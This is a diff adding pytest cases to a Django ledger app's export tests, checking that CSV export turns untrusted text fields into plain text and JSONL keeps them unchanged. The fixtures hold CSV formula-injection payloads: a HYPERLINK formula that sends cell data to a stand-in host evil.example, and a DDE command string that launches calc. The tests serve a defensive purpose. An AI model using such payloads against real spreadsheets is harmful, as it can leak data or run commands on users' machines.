@@ -13,6 +13,8 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 
 from tests.commands import run
+from tests.factories import credit_event
+from xblocks.ledger import api
 from xblocks.ledger.exports import export_queryset, iterate, write_export
 from xblocks.ledger.models import Entry
 from xblocks.ledger.xapi import statement_id
@@ -56,6 +58,37 @@ def test_an_unknown_code_is_an_error_not_an_empty_file(population, tmp_path):
     assert code == 1 and out == ""
     assert "there is no unit with code ZZ" in err and "there is no commune with code 99" in err
     assert not (tmp_path / "out.csv").exists() and not (tmp_path / "out.csv.partial").exists()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your certificate")'
+
+
+def test_csv_text_cells_cannot_become_formulas_and_points_stay_numbers():
+    """Whatever a sender put in a course key (or usage key, or anonymous id), a spreadsheet shows it as text."""
+    credited = api.append(credit_event(
+        learner={"user_id": 77, "anonymous_id": "@SUM(1+1)"}, points=3, hours=1.5,
+        source={"kind": "import", "course_key": HYPERLINK, "usage_key": "+cmd|' /C calc'!A0"})).entry
+    api.reverse(credited, reason="=HYPERLINK(\"http://evil.example\")")
+    code, out, err = run("export", "--format", "csv", "--period", "2026")
+    assert code == 0, err
+    credit, reversal = list(csv.DictReader(io.StringIO(out)))
+    for row in (credit, reversal):
+        assert row["course_key"] == "'" + HYPERLINK
+        assert row["usage_key"] == "'+cmd|' /C calc'!A0"
+        assert row["anonymous_id"] == "'@SUM(1+1)"
+        assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values())
+    assert (credit["kind"], credit["points"], credit["hours"]) == ("credit", "3.00", "1.50")
+    assert (reversal["kind"], reversal["points"], reversal["reverses"]) == ("reversal", "-3.00", credit["entry_id"])
+    assert ",-3.00," in out.splitlines()[2]   # a bare number, neither quoted nor prefixed
+    assert "reason" not in reversal           # a reversal's reason is not exported at all
+
+
+def test_jsonl_keeps_text_as_it_was_sent():
+    """JSON is read by programs, not spreadsheets: no apostrophe is added there."""
+    api.append(credit_event(source={"kind": "import", "course_key": HYPERLINK, "usage_key": None}))
+    code, out, _ = run("export", "--format", "jsonl", "--period", "2026")
+    (document,) = [json.loads(line) for line in out.splitlines()]
+    assert code == 0 and document["course_key"] == HYPERLINK and document["points"] == "4.00"
 
 
 def test_jsonl(population):
